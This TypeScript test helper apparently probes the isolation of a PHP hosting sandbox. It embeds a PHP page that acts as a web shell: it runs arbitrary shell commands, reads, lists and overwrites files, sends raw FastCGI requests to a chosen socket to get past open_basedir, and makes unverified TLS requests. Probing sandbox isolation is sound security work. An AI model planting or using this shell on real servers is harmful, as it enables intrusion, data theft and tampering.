import { Buffer } from 'node:buffer';
import { request } from 'node:http';

/**
 * A page that tries what it is asked to: code of a user who is curious about others. Answers JSON: the text it got, or null.
 * What PHP itself may not read (open_basedir) it tries with a shell, which only the sandbox holds back.
 */
export const probe = `<?php
header('Content-Type: application/json');
error_reporting(0);
$order = json_decode(file_get_contents('php://input'), true);
$shell = fn (string $line) => shell_exec($line . ' 2>/dev/null');
$quoted = escapeshellarg($order['path'] ?? '');
function fastcgi(string $address, array $params, string $body): ?string {
  $socket = @stream_socket_client($address, $errno, $error, 3);
  if (!$socket) return null;
  stream_set_timeout($socket, 3);
  $record = fn (int $type, string $content) => pack('CCnnCx', 1, $type, 1, strlen($content), 0) . $content;
  $pairs = '';
  foreach ($params as $name => $value) $pairs .= pack('NN', strlen($name) | 0x80000000, strlen($value) | 0x80000000) . $name . $value;
  fwrite($socket, $record(1, pack('nCxxxxx', 1, 0)) . $record(4, $pairs) . $record(4, '') . $record(5, $body) . $record(5, ''));
  return stream_get_contents($socket) ?: null;
}
function tls(string $address, string $path, array $certificate): ?string {
  $context = stream_context_create(['ssl' => $certificate + ['verify_peer' => false, 'verify_peer_name' => false]]);
  $socket = @stream_socket_client("tls://$address", $errno, $error, 5, STREAM_CLIENT_CONNECT, $context);
  if (!$socket) return null;
  stream_set_timeout($socket, 5);
  fwrite($socket, "GET $path HTTP/1.1\\r\\nHost: $address\\r\\nConnection: close\\r\\n\\r\\n");
  return stream_get_contents($socket) ?: null;
}
echo json_encode(match ($order['what'] ?? null) {
  'read' => file_get_contents($order['path']) ?: null,
  'list' => scandir($order['path']) ?: null,
  'shell read' => $shell("cat $quoted"),
  'shell list' => $shell("ls -A $quoted"),
  'shell' => $shell($order['path']),
  'write' => $shell("echo overwritten > $quoted && echo done"),
  'fastcgi' => fastcgi($order['path'], $order['params'], $order['body']),
  null => 'ready',
  'tls' => tls($order['address'], $order['path'], $order['certificate']),
});
`;

export interface Order {
  what: 'read' | 'list' | 'shell read' | 'shell list' | 'shell' | 'write' | 'fastcgi' | 'tls';
  path: string;
  [more: string]: unknown;
}

/** @returns what the page got; null when it got nothing */
export function tryIt(url: string, order: Order): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const body = Buffer.from(JSON.stringify(order));
    const headers = { 'Content-Type': 'application/json', 'Content-Length': body.length };
    const sent = request(url, { method: 'POST', headers }, async (answer) => {
      const text = Buffer.concat(await answer.toArray()).toString();
      try {
        resolve(JSON.parse(text));
      } catch {
        reject(new Error(`${answer.statusCode}: ${text.slice(0, 500)}`));
      }
    });
    sent.on('error', reject);
    sent.end(body);
  });
}
